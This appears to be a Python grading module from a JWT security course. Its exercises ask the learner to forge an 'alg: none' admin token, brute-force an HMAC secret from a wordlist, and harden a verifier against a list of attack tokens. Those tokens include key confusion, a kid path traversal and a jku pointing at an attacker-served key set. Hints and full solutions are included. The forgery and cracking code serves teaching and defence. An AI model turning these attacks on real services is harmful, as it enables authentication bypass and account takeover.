"""Chapter 06: attacks and defences (an ``alg: none`` forgery, a dictionary attack, a safe verifier).

q1 runs the learner's forgery through the vulnerable lab's verifier (it must get in) and the
real server's :class:`~jwt_course.tokens.TokenSigner` (it must not). q2 gives the learner's
cracker tokens and wordlists of its own. q3 throws every attack of the chapter at the
learner's verifier, including a ``jku`` pointing at a key set served on loopback for the
occasion, and reports the first one that gets through.
"""

from __future__ import annotations

import functools
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from fastapi import FastAPI

from .. import handmade
from ..serving import serve
from ..tokens import ACCESS_TOKEN_TYPE, TokenSigner
from ..vulnerable import VulnerableSettings, verify_trusting_alg_header
from . import Exercise, Failure, NotSolved

__all__ = ["AUDIENCE", "ISSUER", "PUBLIC_KEY_PEM", "issue_token", "q1", "q2", "q3"]

#: Who issues the exercise tokens (``iss``) and which API they are for (``aud``).
ISSUER = "https://auth.course.test"
AUDIENCE = "https://api.course.test"

_LAB_SECRET = "chapter-06-exercise-lab-secret-0123456789abcdef"


@functools.cache
def _key(name: str) -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _pem(key: rsa.RSAPrivateKey) -> bytes:
    return key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


#: The exercises' RS256 public key (PEM): what q3's verifier checks signatures with.
PUBLIC_KEY_PEM: bytes = _pem(_key("issuer"))


def issue_token(sub: str = "alice", role: str = "user", *, ttl: int = 600, **changes: Any) -> str:
    """An RS256 access token as q3's issuer signs it (``typ: at+jwt``); ``changes`` edit claims.

    A change to ``None`` removes the claim; ``typ=...`` changes the header's ``typ``.
    """
    typ = changes.pop("typ", ACCESS_TOKEN_TYPE)
    now = int(time.time())
    claims = {"sub": sub, "role": role, "iss": ISSUER, "aud": AUDIENCE, "iat": now, "exp": now + ttl}
    claims.update(changes)
    claims = {name: value for name, value in claims.items() if value is not None}
    return handmade.encode(claims, _key("issuer"), "RS256", headers={"typ": typ})


def _b64(obj: dict[str, Any]) -> str:
    return handmade.b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


def _parts(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    header_b64, payload_b64, signature = token.split(".")
    header = json.loads(handmade.b64url_decode(header_b64))
    return header, json.loads(handmade.b64url_decode(payload_b64)), signature


def _hs(key: bytes, header: dict[str, Any], payload: dict[str, Any], alg: str = "HS256") -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{_b64({**header, 'alg': alg})}.{_b64(payload)}"
    return f"{signing_input}.{handmade.b64url_encode(hmac.digest(key, signing_input.encode(), digest))}"


def _show(value: Any) -> str:
    text = repr(value)
    return text if len(text) <= 90 else text[:87] + "..."


# -- q1 ------------------------------------------------------------------------


def _lab_settings() -> VulnerableSettings:
    return VulnerableSettings(
        secret=_LAB_SECRET, rsa_key=_key("issuer"), issuer=ISSUER, audience=AUDIENCE, keys_dir="/nonexistent"
    )


def _lab_token(sub: str) -> str:
    now = int(time.time())
    claims = {
        "sub": sub, "role": "user", "iss": ISSUER, "aud": AUDIENCE, "iat": now,
        "exp": now + 900, "jti": secrets.token_urlsafe(8),
    }
    return handmade.encode(claims, _LAB_SECRET, "HS256", headers={"typ": ACCESS_TOKEN_TYPE})


def _real_signer() -> TokenSigner:
    return TokenSigner.hmac(
        _LAB_SECRET, algorithm="HS256", issuer=ISSUER, audience=AUDIENCE, clock=time.time
    )


class ForgeAlgNone(Exercise):
    """Turn a user's token into an unsigned admin token (``alg: none``)."""

    label = "q1"
    name = "forge_alg_none"
    hints = (
        "Split the token on '.', decode the first two parts with b64url_decode and json.loads.",
        "New header: the old one with 'alg' set to 'none'. New payload: the old one with 'role' set "
        "to 'admin'. Encode both with json.dumps(..., separators=(',', ':')) and b64url_encode.",
        "The result is f'{header_b64}.{payload_b64}.' : the signature part is empty, but the "
        "second dot stays.",
    )
    solution_code = '''
def forge_alg_none(token: str) -> str:
    header_b64, payload_b64, _ = token.split(".")
    header = json.loads(b64url_decode(header_b64))
    payload = json.loads(b64url_decode(payload_b64))
    header["alg"] = "none"
    payload["role"] = "admin"
    def part(obj):
        return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())
    return f"{part(header)}.{part(payload)}."
'''

    def verify(self, answer: Any) -> None:
        settings, signer = _lab_settings(), _real_signer()
        for sub in ("alice", f"user-{secrets.token_hex(3)}"):
            token = _lab_token(sub)
            forged = self.call(answer, token)
            if not isinstance(forged, str) or forged.count(".") != 2:
                raise Failure(f"forge_alg_none(<alice's token>) returned {_show(forged)}; expected a token, 'header.payload.'")
            try:
                header, claims, signature = _parts(forged)
            except (ValueError, jwt.PyJWTError) as exc:
                raise Failure(f"the forged token does not parse: {type(exc).__name__}: {exc}") from None
            if str(header.get("alg", "")).lower() != "none":
                raise Failure(f"the forged header is {header}; its alg should be 'none'")
            if signature:
                raise Failure("the forged token has a signature part; with alg none it is empty (the token ends with '.')")
            try:
                accepted = verify_trusting_alg_header(forged, settings)
            except Exception as exc:
                raise Failure(f"the vulnerable lab refused it: {type(exc).__name__}: {exc}") from None
            if accepted.get("role") != "admin" or accepted.get("sub") != sub:
                raise Failure(
                    f"the lab accepted it, but with sub={accepted.get('sub')!r}, role={accepted.get('role')!r}; "
                    f"expected sub={sub!r} (unchanged), role='admin'"
                )
            original = _parts(token)[1]
            changed = sorted(k for k in original if k != "role" and accepted.get(k) != original[k])
            if changed:
                raise Failure(f"only the role should change, but {changed} changed too")
            try:
                signer.decode(forged, ACCESS_TOKEN_TYPE, ["sub", "role"])
            except jwt.PyJWTError:
                continue
            raise Failure("the real server's TokenSigner accepted it: please report this as a bug!")


# -- q2 ------------------------------------------------------------------------


def _wordlist(size: int, seed: str) -> list[str]:
    words = [f"{seed}-{i}" for i in range(size)]
    return words + [f"{seed}-{i}x" for i in range(5)]  # near misses


class CrackSecret(Exercise):
    """Find an HMAC token's secret in a wordlist (HS256, HS384 or HS512)."""

    label = "q2"
    name = "crack_secret"
    hints = (
        "The signing input is everything before the last dot; the signature is the base64url after it.",
        "Read the header's alg to choose the hash: HS256 -> hashlib.sha256, HS384 -> sha384, HS512 -> sha512.",
        "For each word: hmac.digest(word.encode(), signing_input.encode(), digest) == signature? "
        "Return the word; after the loop, return None.",
    )
    solution_code = '''
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}

def crack_secret(token: str, wordlist: list[str]) -> str | None:
    signing_input, _, signature_b64 = token.rpartition(".")
    signature = b64url_decode(signature_b64)
    digest = HASHES[jwt.get_unverified_header(token)["alg"]]
    for word in wordlist:
        if hmac.compare_digest(hmac.digest(word.encode(), signing_input.encode(), digest), signature):
            return word
    return None
'''

    def verify(self, answer: Any) -> None:
        claims = {"sub": "alice", "role": "user", "iat": 1_767_225_600}
        seed = secrets.token_hex(3)
        cases = [("HS256", 137), ("HS384", 3), ("HS512", 250), ("HS256", 0)]
        words = _wordlist(300, seed)
        for number, (alg, position) in enumerate(cases):
            secret = words[position]
            token = handmade.encode(claims, secret, alg)
            call = self.call if number == 0 else _call_allowing_none  # None at first: not solved yet
            found = call(answer, token, words)
            if found != secret:
                raise Failure(
                    f"for an {alg} token whose secret is word #{position + 1} of a {len(words)}-word list, "
                    f"it returned {_show(found)}, expected {secret!r}"
                )
        words = _wordlist(200, seed + "-other")
        token = handmade.encode(claims, "not-in-the-list", "HS256")
        found = _call_allowing_none(answer, token, words)
        if found is not None:
            raise Failure(f"for a token whose secret is not in the list it returned {_show(found)}; expected None")


def _call_allowing_none(fn: Callable[..., Any], *args: Any) -> Any:
    try:
        return fn(*args)
    except Exception as exc:
        raise Failure(f"{getattr(fn, '__name__', 'your function')} raised {type(exc).__name__}: {exc}") from None


# -- q3 ------------------------------------------------------------------------


@contextmanager
def _attacker_jwks() -> Iterator[str]:
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(_key("attacker").public_key()))
    app = FastAPI()

    @app.get("/jwks.json")
    def key_set() -> dict[str, Any]:
        return {"keys": [{**jwk, "kid": "attacker", "alg": "RS256", "use": "sig"}]}

    with serve(app) as server:
        yield f"{server.url}/jwks.json"


def _attacks(jku_url: str) -> list[tuple[str, str]]:
    good = issue_token()
    header, payload, signature = _parts(good)
    admin = {**payload, "role": "admin"}
    attacker = _key("attacker")
    attacker_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(attacker.public_key()))
    traversal = "../" * 12 + "dev/null"
    now = int(time.time())
    attacks = [
        ("a tampered payload (role -> admin, old signature)", f"{_b64(header)}.{_b64(admin)}.{signature}"),
    ]
    for alg in ("none", "None", "NONE", "nOnE"):
        attacks.append((f"alg {alg!r} with an empty signature", f"{_b64({**header, 'alg': alg})}.{_b64(admin)}."))
    attacks += [
        ("alg 'none' keeping the old signature", f"{_b64({**header, 'alg': 'none'})}.{_b64(admin)}.{signature}"),
        ("RS256 -> HS256 confusion (HMAC with PUBLIC_KEY_PEM)", _hs(PUBLIC_KEY_PEM, header, admin)),
        ("RS256 -> HS256 confusion (PEM without its final newline)", _hs(PUBLIC_KEY_PEM.strip(), header, admin)),
        ("a kid path traversal to /dev/null (HS256, empty key)", _hs(b"", {**header, "kid": traversal}, admin)),
        ("a token signed by the attacker's own RSA key", handmade.encode(admin, attacker, "RS256", headers=header)),
        (
            "the attacker's key embedded in the header (jwk)",
            handmade.encode(admin, attacker, "RS256", headers={**header, "jwk": attacker_jwk}),
        ),
        (
            "a jku header pointing at the attacker's JWKS",
            handmade.encode(admin, attacker, "RS256", headers={**header, "kid": "attacker", "jku": jku_url}),
        ),
        ("a refresh token (typ rt+jwt)", issue_token(typ="rt+jwt", ttl=604800)),
        ("a token without typ", issue_token(typ=None)),
        ("an expired token", issue_token(iat=now - 3600, exp=now - 60)),
        ("a token for another audience", issue_token(aud="https://billing.course.test")),
        ("a token from another issuer", issue_token(iss="https://staging-auth.course.test")),
        ("a token without exp", issue_token(exp=None)),
        ("a token without aud", issue_token(aud=None)),
    ]
    return attacks


class SafeVerify(Exercise):
    """Patch a vulnerable verifier so that every attack of the chapter fails."""

    label = "q3"
    name = "safe_verify"
    hints = (
        "Do not read anything from the header to decide how to verify: not alg, not kid, not jwk, not jku. "
        "The key is PUBLIC_KEY_PEM and the algorithm is RS256, full stop.",
        "jwt.decode(token, PUBLIC_KEY_PEM, algorithms=['RS256'], issuer=ISSUER, audience=AUDIENCE, "
        "options={'require': ['exp', 'iat', 'iss', 'aud', 'sub']}) does most of it.",
        "What jwt.decode does not check is the type: compare jwt.get_unverified_header(token).get('typ') "
        "with 'at+jwt' and raise jwt.InvalidTokenError otherwise (the signature covers the header, so "
        "once decode succeeds the typ you checked is authentic).",
    )
    solution_code = '''
def safe_verify(token: str) -> dict:
    typ = jwt.get_unverified_header(token).get("typ")
    if typ != "at+jwt":
        raise jwt.InvalidTokenError(f"wrong token type {typ!r}")
    return jwt.decode(
        token, PUBLIC_KEY_PEM, algorithms=["RS256"], issuer=ISSUER, audience=AUDIENCE,
        options={"require": ["exp", "iat", "iss", "aud", "sub"]},
    )
'''

    def verify(self, answer: Any) -> None:
        if not callable(answer):
            raise Failure(f"expected a function, got {type(answer).__name__}")
        try:
            claims = self.call(answer, issue_token("alice", "user"))
        except Failure as failure:
            raise Failure(f"a legitimate token of alice was refused: {failure}") from None
        if not isinstance(claims, dict) or claims.get("sub") != "alice" or claims.get("role") != "user":
            raise Failure(f"for a legitimate token of alice it returned {_show(claims)}; expected its claims")
        with _attacker_jwks() as jku_url:
            attacks = _attacks(jku_url)
            for what, token in attacks:
                try:
                    result = answer(token)
                except jwt.PyJWTError:
                    continue
                except NotImplementedError:
                    raise NotSolved from None
                except Exception as exc:
                    raise Failure(
                        f"for {what} it raised {type(exc).__name__}: {exc}. A server would answer 500; "
                        "raise jwt.InvalidTokenError (or let PyJWT's own errors through)"
                    ) from None
                got = (
                    f"claims with sub={result.get('sub')!r}, role={result.get('role')!r}"
                    if isinstance(result, dict)
                    else _show(result)
                )
                raise Failure(f"{what} got through: it returned {got}. The token's header: {_parts(token)[0]!r:.150}")


q1 = ForgeAlgNone()
q2 = CrackSecret()
q3 = SafeVerify()
